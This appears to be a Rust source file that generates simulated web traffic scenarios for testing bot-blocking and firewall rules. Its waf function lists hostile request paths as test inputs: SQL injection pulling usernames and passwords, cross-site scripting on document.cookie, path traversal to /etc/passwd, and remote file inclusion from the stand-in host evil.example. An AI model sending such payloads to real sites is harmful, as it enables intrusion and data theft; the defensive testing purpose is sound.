//! What keeps programs out: lists of agents, attack signatures, challenges.

use super::Draft;
use crate::scenario::Reaction;

pub(super) fn agent_list(draft: &mut Draft) {
    let (name, client) = *draft.random.pick(&[
        ("GPTBot", "gptbot"),
        ("Bytespider", "bytespider"),
        ("CCBot", "ccbot"),
        ("AhrefsBot", "ahrefs"),
        ("python-requests", "requests"),
    ]);
    draft.deny_meanwhile(format!(
        "deny user_agent containing \"{name}\", \"PetalBot\""
    ));
    let mut stream = draft.stream(
        "bots",
        client,
        &["/blog/post-{n}", "/products/{n}", "/category/sale"],
    );
    stream.addresses = 1 + draft.random.below(40);
    stream.calm = stream.rate;
    draft.push(stream);
}

pub(super) fn waf(draft: &mut Draft) {
    draft.feature("crs");
    let client = draft
        .random
        .pick(&["browser", "sqlmap", "nikto", "curl"])
        .to_string();
    let mut stream = draft.stream(
        "attacker",
        &client,
        &[
            "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/products/{n}?id=1%20OR%201=1",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/download?file=../../../../etc/passwd",
            "/?page=http://evil.example/shell.txt",
            "/products/{n}",
            "/about",
        ],
    );
    stream.addresses = 1 + draft.random.below(30);
    draft.push(stream);
}

pub(super) fn challenge(draft: &mut Draft) {
    draft.feature("challenge");
    let mut stream = draft.stream(
        "distributed",
        "browser",
        &["/products/{n}", "/search?q={word}"],
    );
    stream.addresses = 300 + draft.random.below(2500);
    draft.others(&stream, |others| {
        others.headers = vec!["Cookie: clearance=1f2e3d4c5b6a".to_string()];
        others.addresses = 120;
        others.rate *= 2.0;
    });
    draft.push(stream);
}

pub(super) fn distributed_bots(draft: &mut Draft) {
    let agent = "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0";
    draft.deny("deny user_agent containing \"Firefox/52.0\"");
    let mut stream = draft.stream("botnet", agent, &["/login", "/products/{n}", "/cart"]);
    stream.addresses = 800 + draft.random.below(3000);
    stream.denied = Reaction::Ignore;
    draft.push(stream);
}
